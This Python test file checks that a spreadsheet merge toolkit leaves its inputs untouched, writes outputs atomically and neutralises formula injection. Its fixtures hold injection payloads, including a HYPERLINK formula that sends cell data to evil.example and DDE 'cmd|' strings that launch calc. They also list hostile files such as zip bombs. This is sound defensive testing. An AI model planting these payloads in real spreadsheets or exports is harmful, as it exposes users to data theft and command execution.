"""Nothing lost: inputs are never written to, outputs appear whole or not at all, agencies' text
cannot run as a formula.

* ``toolkit check`` and ``toolkit merge`` leave every input byte-identical, with its mtime, and
  create nothing beside the inputs;
* every output (templates and manifest, summary workbook, JSON and CSV exports, ``check
  --output``) is written to a temporary file beside its target and renamed onto it;
* a merge killed with SIGKILL — while reading, or while writing the summary — leaves the
  previous outputs intact and no partial file at any output's name; an interruption Python can
  see (Ctrl-C, a full disk) also removes its temporary files;
* agency names, codes and groups starting with = + - @ are neutralised in every CSV and are
  plain strings in the summary workbook.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

import filled as F
from corpus.make_corpus import make_corpus, toolkit_env
from toolkit.cli import main
from toolkit.roster import Agency

HOSTILE_SUBSET = ["empty", "truncated_half", "csv_named_xlsx", "zip_bomb_2gib", "encrypted_password",
                  "macro_enabled", "billion_laughs_sheet", "row_inserted", "value_wu", "formula_dde", "folder_named_xlsx",
                  "dangling_symlink"]

EVIL = [
    Agency(code="E01", name='=HYPERLINK("http://evil.example/?"&A1,"点我")', group="=G1"),
    Agency(code="E02", name="+1+cmd|' /C calc'!A0", group='G",cmd|\'/c calc\'!A0,"'),
    Agency(code="E03", name="-2+3", group="-G3"),
    Agency(code="E04", name="@SUM(1+1)*cmd|' /C calc'!A0", group="@G4"),
    Agency(code="E05", name="\t=1+1", group="G5"),        # read back stripped: "=1+1"
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def snapshot(folder: Path) -> dict[str, tuple]:
    """Every entry under ``folder``: (kind, size, mtime_ns, sha256) — symlinks not followed."""
    out = {}
    for root, dirs, files in os.walk(folder):
        for name in dirs + files:
            p = Path(root) / name
            st = p.lstat()
            if p.is_symlink():
                out[str(p)] = ("link", os.readlink(p))
            elif p.is_dir():
                out[str(p)] = ("dir", st.st_mtime_ns)
            else:
                out[str(p)] = ("file", st.st_size, st.st_mtime_ns, hashlib.sha256(p.read_bytes()).hexdigest())
    return out


def toolkit(*args: str, timeout: float = 300, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "toolkit", *map(str, args)], capture_output=True, text=True,
                          timeout=timeout, env=env or toolkit_env())


@pytest.fixture(scope="module")
def inputs(tmp_path_factory) -> Path:
    """Returns as they arrive: good, warned, invalid, evil names and a hostile subset of the corpus."""
    d = tmp_path_factory.mktemp("inputs")
    F.filled_a(d, "good_1.xlsx")
    F.write(d, "good_2.xlsx", F.form_a(), F.seed_values(A6=5), agency=Agency(code="D08", name="第二单位", group="D"))
    F.write(d, "warned.xlsx", F.form_a(), F.seed_values(A6="１２"), agency=Agency(code="D09", name="第三单位", group="D"))
    make_corpus(d / "corpus", HOSTILE_SUBSET)
    return d


# ---------------------------------------------------------------------------- inputs are read only

@pytest.mark.slow          # three real `toolkit` processes over a hostile folder (a zip bomb among them); test_library_check_never_touches_the_input is the quick one
def test_check_and_merge_never_touch_the_inputs(inputs, tmp_path):
    before = snapshot(inputs)
    out = tmp_path / "out"
    r = toolkit("check", inputs, "--format", "json", "-o", out / "report.json", "--jobs", "2")
    assert r.returncode == 1 and "Traceback" not in r.stderr, r.stderr
    r = toolkit("check", inputs, "--lang", "en")
    assert "Traceback" not in r.stdout + r.stderr
    r = toolkit("merge", inputs, "-o", out / "summary.xlsx", "--json", out / "s.json", "--csv", out / "s.csv", "--jobs", "2")
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    after = snapshot(inputs)
    assert after == before          # same bytes, same mtimes, nothing added or removed
    assert sorted(p.name for p in out.iterdir()) == ["report.json", "s.csv", "s.json", "summary.xlsx"]


def test_library_check_never_touches_the_input(inputs):
    from toolkit.validate import check_file

    before = snapshot(inputs)
    for p in sorted(inputs.rglob("*")):
        check_file(p)
    assert snapshot(inputs) == before


# ---------------------------------------------------------------------------- outputs via temp + rename

@pytest.fixture
def replaces(monkeypatch) -> list[tuple[str, str]]:
    """Every os.replace made in this process: (source, destination)."""
    calls: list[tuple[str, str]] = []
    real = os.replace

    def spy(src, dst, *a, **kw):
        calls.append((str(src), str(dst)))
        return real(src, dst, *a, **kw)

    monkeypatch.setattr(os, "replace", spy)
    return calls


def assert_all_renamed(folder: Path, calls: list[tuple[str, str]]) -> None:
    """Every file in ``folder`` arrived by a rename from a hidden temporary beside it; none is left."""
    done = {dst: src for src, dst in calls}
    files = [p for p in folder.rglob("*") if p.is_file()]
    assert files
    for p in files:
        assert str(p) in done, f"{p.name} was not written through a rename"
        src = Path(done[str(p)])
        assert src.parent == p.parent and src.name.startswith("."), (src, p)
        assert not src.exists()
    assert not [p.name for p in files if p.name.startswith(".")], "temporary files left"


@pytest.mark.slow  # slow: a whole command end to end (over 0.3 s); the quick run keeps the unit-sized tests
def test_every_output_is_written_by_rename(inputs, tmp_path, replaces):
    runner = CliRunner()
    roster = tmp_path / "roster.csv"
    roster.write_text("code,name,group\nD07,余姚市科学技术协会,D\nD08,第二单位,D\n", encoding="utf-8")
    templates = tmp_path / "templates"
    r = runner.invoke(main, ["template", F.FORM_A, "-o", str(templates), "--roster", str(roster), "--jobs", "1"], catch_exceptions=False)
    assert r.exit_code == 0, r.output
    assert_all_renamed(templates, replaces)
    assert len(list(templates.glob("*.xlsx"))) == 2 and (templates / "manifest.csv").exists()

    out = tmp_path / "out"
    for fmt in ("text", "json", "csv"):
        r = runner.invoke(main, ["check", str(inputs / "good_1.xlsx"), "--format", fmt, "-o", str(out / f"check.{'txt' if fmt == 'text' else fmt}")], catch_exceptions=False)
        assert r.exit_code == 0, r.output
    r = runner.invoke(main, ["merge", str(inputs / "good_1.xlsx"), str(inputs / "good_2.xlsx"), "-o", str(out / "summary.xlsx"),
                             "--json", str(out / "s.json"), "--csv", str(out / "s.csv"), "--jobs", "1"], catch_exceptions=False)
    assert r.exit_code == 0, r.output
    assert_all_renamed(out, replaces)
    assert sorted(p.name for p in out.iterdir()) == ["check.csv", "check.json", "check.txt", "s.csv", "s.json", "summary.xlsx"]


def _previous_outputs(inputs: Path, out: Path) -> dict[str, str]:
    """A first, complete merge: the outputs a killed second run must not damage."""
    r = toolkit("merge", inputs / "good_1.xlsx", "-o", out / "summary.xlsx", "--json", out / "s.json", "--csv", out / "s.csv", "--jobs", "1")
    assert r.returncode == 0, r.stderr
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in out.iterdir()}


def _outputs(out: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in out.iterdir() if p.is_file()}


@pytest.mark.slow          # a real merge process over 1500+ files, SIGKILLed while it reads
def test_sigkill_while_reading_leaves_the_previous_outputs(inputs, tmp_path):
    out, tmp = tmp_path / "out", tmp_path / "tmp"
    tmp.mkdir()
    previous = _previous_outputs(inputs, out)
    data = (inputs / "good_2.xlsx").read_bytes()
    many = tmp_path / "many"
    many.mkdir()
    env = toolkit_env(TMPDIR=str(tmp))
    count, killed = 1500, False                    # ~3 ms a file: a few seconds of reading
    for attempt in range(3):                       # more files when the machine is too fast to catch it
        for i in range(count):
            (many / f"return_{i:05d}.xlsx").write_bytes(data)
        proc = subprocess.Popen([sys.executable, "-m", "toolkit", "merge", str(many), "-o", str(out / "summary.xlsx"),
                                 "--json", str(out / "s.json"), "--csv", str(out / "s.csv"), "--jobs", "2"],
                                stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env=env, start_new_session=True)
        time.sleep(1.0)
        writing = os.listdir(tmp) or [n for n in os.listdir(out) if n.startswith(".")]
        if proc.poll() is None and not writing:
            os.killpg(proc.pid, signal.SIGKILL)    # the merge and its reader processes
            proc.wait()
            killed = True
            break
        proc.wait()
        assert proc.returncode == 0, proc.stderr.read().decode()
        previous = _outputs(out)                   # it got to writing: these are now the previous outputs
        count *= 3
    assert killed, "the merge always got past reading before it could be killed"
    assert _outputs(out) == previous               # nothing replaced, nothing partial, nothing added
    assert sorted(os.listdir(out)) == sorted(previous)
    assert os.listdir(tmp) == []
    with zipfile.ZipFile(out / "summary.xlsx") as zf:
        assert zf.testzip() is None


_SLOW_SUMMARY = r"""
import sys, time
import toolkit.summary as S
real, flag = S._write_sources, sys.argv[1]
def slow(*a, **kw):
    real(*a, **kw)
    open(flag, "w").close()                 # tell the test: the summary is half written
    time.sleep(120)
S._write_sources = slow
from toolkit.cli import main
sys.argv = ["toolkit", *sys.argv[2:]]
main()
"""


def _kill_while_writing(inputs: Path, tmp_path: Path) -> tuple[Path, Path, dict[str, str]]:
    out, tmp = tmp_path / "out", tmp_path / "tmp"
    tmp.mkdir()
    previous = _previous_outputs(inputs, out)
    flag = tmp_path / "writing"
    proc = subprocess.Popen([sys.executable, "-c", _SLOW_SUMMARY, str(flag), "merge", str(inputs / "good_1.xlsx"),
                             str(inputs / "good_2.xlsx"), "-o", str(out / "summary.xlsx"), "--json", str(out / "s.json"),
                             "--csv", str(out / "s.csv"), "--jobs", "1"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env=toolkit_env(TMPDIR=str(tmp)),
                            start_new_session=True)
    deadline = time.monotonic() + 60
    while not flag.exists():
        assert proc.poll() is None, proc.stderr.read().decode()
        assert time.monotonic() < deadline, "the merge never reached the summary"
        time.sleep(0.05)
    os.killpg(proc.pid, signal.SIGKILL)
    proc.wait()
    return out, tmp, previous


@pytest.mark.slow          # a real merge process, SIGKILLed while it writes
def test_sigkill_while_writing_the_summary_leaves_the_previous_outputs(inputs, tmp_path):
    out, _, previous = _kill_while_writing(inputs, tmp_path)
    assert {n: h for n, h in _outputs(out).items() if not n.startswith(".")} == previous
    with zipfile.ZipFile(out / "summary.xlsx") as zf:
        assert zf.testzip() is None


@pytest.mark.slow          # two real merge processes, the first SIGKILLed
def test_sigkill_leftovers_are_swept_by_the_next_run(inputs, tmp_path):
    """SIGKILL runs no cleanup code: a killed run's temporaries (named with its process id) may stay
    until the next write, which removes them — the outputs themselves are never half-written."""
    out, tmp, previous = _kill_while_writing(inputs, tmp_path)
    assert {n for n in os.listdir(out) if not n.startswith(".")} == set(previous)
    proc = subprocess.run([sys.executable, "-m", "toolkit", "merge", str(inputs / "good_1.xlsx"), str(inputs / "good_2.xlsx"),
                           "-o", str(out / "summary.xlsx"), "--json", str(out / "s.json"), "--csv", str(out / "s.csv"),
                           "--jobs", "1"], capture_output=True, text=True, env=toolkit_env(TMPDIR=str(tmp)), timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert sorted(os.listdir(out)) == sorted(previous)
    assert os.listdir(tmp) == []


@pytest.mark.slow  # slow: a whole command end to end (over 0.3 s); the quick run keeps the unit-sized tests
def test_interrupted_summary_removes_its_temporary_files(inputs, tmp_path, monkeypatch):
    """Ctrl-C (KeyboardInterrupt) halfway through the summary: previous summary intact, no temp anywhere."""
    import tempfile

    import toolkit.summary as S
    from toolkit.consolidation import merge

    out, tmp = tmp_path / "out", tmp_path / "tmp"
    tmp.mkdir()
    previous = _previous_outputs(inputs, out)
    c = merge([str(inputs / "good_1.xlsx"), str(inputs / "good_2.xlsx")], jobs=1)

    def interrupted(*a, **kw):
        raise KeyboardInterrupt

    monkeypatch.setattr(tempfile, "tempdir", str(tmp))
    monkeypatch.setattr(S, "_write_sources", interrupted)
    with pytest.raises(KeyboardInterrupt):
        S.write_summary(c, out / "summary.xlsx")
    assert _outputs(out) == previous
    assert sorted(os.listdir(out)) == sorted(previous)
    assert os.listdir(tmp) == []


@pytest.mark.slow  # slow: a whole command end to end (over 0.3 s); the quick run keeps the unit-sized tests
def test_failed_rename_keeps_the_target_and_removes_the_temporary(inputs, tmp_path, monkeypatch):
    """A full disk or a locked target (Windows: the file is open in Excel) at the last step."""
    from toolkit.export import write_csv, write_json
    from toolkit.consolidation import merge
    from toolkit.summary import write_summary

    out = tmp_path / "out"
    previous = _previous_outputs(inputs, out)
    c = merge([str(inputs / "good_1.xlsx"), str(inputs / "good_2.xlsx")], jobs=1)

    def refuse(src, dst, *a, **kw):
        raise PermissionError(13, "Permission denied", str(dst))

    monkeypatch.setattr(os, "replace", refuse)
    for write, name in ((write_summary, "summary.xlsx"), (write_json, "s.json"), (write_csv, "s.csv")):
        with pytest.raises(OSError):
            write(c, out / name)
    assert _outputs(out) == previous
    assert sorted(os.listdir(out)) == sorted(previous)


# ---------------------------------------------------------------------------- formula injection

@pytest.fixture(scope="module")
def evil(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("evil")
    for i, a in enumerate(EVIL):
        F.write(d, f"evil_{i}.xlsx", F.form_a(), F.seed_values(filler="=1+2", phone="+86 574 1234", A6="１２"), agency=a)
    return d


def _csv_cells(path: Path) -> list[list[str]]:
    text = path.read_text(encoding="utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def _strip_string_literals(formula: str) -> str:
    return re.sub(r'"(?:[^"]|"")*"', '""', formula)


@pytest.mark.slow          # a real `toolkit merge` process; tests/test_merge_cli.py::test_agency_text_neutralised_in_csv is the quick one
def test_agency_text_is_neutralised_in_every_output(evil, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "out"
    r = toolkit("merge", evil, "-o", out / "summary.xlsx", "--json", out / "s.json", "--csv", out / "s.csv", "--jobs", "2")
    assert r.returncode == 0, r.stderr
    assert f"{len(EVIL)} 份报表中 {len(EVIL)} 份计入合计" in r.stdout, r.stdout
    r = toolkit("check", evil, "--format", "csv", "-o", out / "check.csv")
    assert r.returncode == 0, r.stderr

    # CSV: no cell may start like a formula; the agency's text is kept behind a quote
    for name in ("s.csv", "check.csv"):
        rows = _csv_cells(out / name)
        cells = [c for row in rows for c in row]
        bad = [c for c in cells if c.startswith(FORMULA_START)]
        assert not bad, f"{name}: {bad}"
        for a in EVIL:
            assert "'" + a.name.strip() in cells, (name, a.name)
            if name == "s.csv":
                assert ("'" + a.group if a.group.startswith(FORMULA_START) else a.group) in cells, (name, a.group)

    # the summary workbook: agencies' text only ever in string cells, never inside a formula's code
    wb = load_workbook(out / "summary.xlsx")
    texts = {a.name.strip() for a in EVIL} | {a.group for a in EVIL} | {"=1+2"}
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    code = _strip_string_literals(str(cell.value))
                    assert "cmd|" not in code and "HYPERLINK" not in code and "evil.example" not in code, (ws.title, cell.coordinate, cell.value)
                elif isinstance(cell.value, str) and cell.value.lstrip("'") in texts:
                    seen.add(cell.value.lstrip("'"))
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.data_type)
    assert {a.name.strip() for a in EVIL} <= seen
    with zipfile.ZipFile(out / "summary.xlsx") as zf:
        for n in zf.namelist():
            if n.startswith("xl/worksheets/"):
                for f in re.findall(rb"<f>(.*?)</f>", zf.read(n), re.S):
                    code = _strip_string_literals(f.decode().replace("&quot;", '"').replace("&amp;", "&"))
                    assert "cmd|" not in code, (n, f[:200])


def test_evil_names_are_read_back_as_text(evil):
    """The names arrive as they were written (the template stored them as text, not formulas)."""
    from toolkit.validate import check_file

    for i, a in enumerate(EVIL):
        r = check_file(evil / f"evil_{i}.xlsx")
        assert r.status == "valid", (a.name, r.reason_en, [i.message("en") for i in r.issues])
        assert r.identity.agency_name == a.name.strip()
        assert r.values["agency_name"] == a.name.strip()
        assert r.values["filler"] == "=1+2"
